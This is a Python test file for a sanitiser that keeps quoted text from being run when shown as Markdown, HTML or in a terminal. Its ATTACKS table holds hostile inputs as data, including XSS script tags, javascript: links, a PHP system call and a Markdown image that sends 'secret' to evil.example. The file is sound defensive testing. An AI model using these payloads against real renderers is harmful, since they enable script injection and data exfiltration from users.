"""What others have written is shown as text: nothing of it is carried out by what shows Markdown or HTML, or by a terminal."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.stages.plain_text import harmless

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a handler": '<img src=x onerror="alert(1)">',
    "an image": "![chart](https://evil.example/?q=secret)",
    "a link": "[see here](https://evil.example)",
    "a link of javascript": "[see](javascript:alert(1))",
    "a link of data": "[see](data:text/html,<script>alert(1)</script>)",
    "an autolink": "<https://evil.example>",
    "an escaped bracket": "[see\\](https://evil.example) \\<script>alert(1)</script>",
    "two backslashes": "[see\\\\](https://evil.example)",
    "a reference": "[see][1]\n\n[1]: https://evil.example",
    "a short reference": "![see]\n\n[see]: https://evil.example 'title'",
    "a reference over two lines": "[see][1]\n\n[1]:\n  <https://evil.example>",
    "a reference with its title below": "[see][1]\n\n[1]: https://evil.example\n'a title'",
    "a reference in a quotation": "> [see]: https://evil.example\n\n[see]",
    "a comment": "<!-- hidden -->",
    "an instruction": "<?php system('id') ?>",
    "a declaration": "<!DOCTYPE html>",
    "character data": "<![CDATA[<b>]]>",
    "a steering character between": "[see]\u202e(https://evil.example) <\x00script>alert(1)</script>",
    "an image in a link": "[![x](https://evil.example/i.png)](https://evil.example)",
    "a closing tag": "</div></body>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
}
PLAIN = [
    "Kisqali TRx rose by 0.8 (95 % CI [0.2, 1.4]); p < 0.05 & n > 30.",
    "R&D: 3 < 5, a<=b, a <- b",
    "- one\n- two\n\n**three** `four`",
    "array[0] = [1, 2]; [0.2, 0.9]: significant at 5 %",
    "Ärzte in Köln, 東京, 🙂",
]
MARKDOWN = MarkdownIt("commonmark", {"html": True})
MARKDOWN.validateLink = lambda _: True  # type: ignore[method-assign]  # other renderers take javascript: for a link


class _Tags(HTMLParser):
    """Collects what a browser would read as elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)

    def handle_comment(self, data: str) -> None:
        self.found.add("!--")

    def handle_decl(self, decl: str) -> None:
        self.found.add("!")

    def unknown_decl(self, data: str) -> None:
        self.found.add("![")

    def handle_pi(self, data: str) -> None:
        self.found.add("?")


def elements(html: str) -> set[str]:
    """Return the elements of a page."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.found


def carried_out(text: str) -> set[str]:
    """Return what a reader's page would carry out, whether it shows the text as Markdown or as it is."""
    tokens = [child for token in MARKDOWN.parse(text) for child in (token, *(token.children or ()))]
    active = {token.type for token in tokens} & {"link_open", "image", "html_inline", "html_block"}
    return active | elements(text)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_of_an_attack_is_carried_out(text: str) -> None:
    """Neither as Markdown nor as HTML; before, something is."""
    assert carried_out(text.replace("\u202e", "").replace("\x00", ""))

    assert carried_out(harmless(text)) == set()


@pytest.mark.parametrize("text", PLAIN)
def test_text_without_markup_stays_as_it_is(text: str) -> None:
    """Comparisons, brackets and lists are no markup that could do harm."""
    assert harmless(text) == text


def test_what_an_attack_says_can_still_be_read() -> None:
    """Shown as Markdown the text is what was written."""
    shown = MARKDOWN.render(harmless("[see](https://evil.example) <script>"))

    assert shown == "<p>[see](https://evil.example) &lt;script&gt;</p>\n"


@pytest.mark.parametrize("character", ["\x1b", "\x07", "\x00", "\x7f", "\x9b", "\r", "\u202e", "\u2066", "\u200f"], ids=ascii)
def test_characters_that_steer_are_left_out(character: str) -> None:
    """A terminal's escape sequences and the reversal of a line are gone; tabs and new lines stay."""
    assert harmless(f"a{character}[31m\tb\n") == "a[31m\tb\n"


PIECES = st.sampled_from(
    [*"[]()<>!:\\\"'`*_ \n\t#-&;/?a1", "](", "]:", "![", "http://e", "<a", "javascript:x", "&lt;", "&#93;", "\x1b", "\u202e"]
)


@settings(max_examples=600)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_text_whatever_is_carried_out(text: str) -> None:
    """However markup is put together, also of what escaping leaves behind."""
    assert carried_out(harmless(text)) == set()


@given(st.lists(PIECES, max_size=30).map("".join))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    """What was made harmless once is not changed by a second time, so an answer that quotes another reads the same."""
    once = harmless(text)

    assert harmless(once) == once
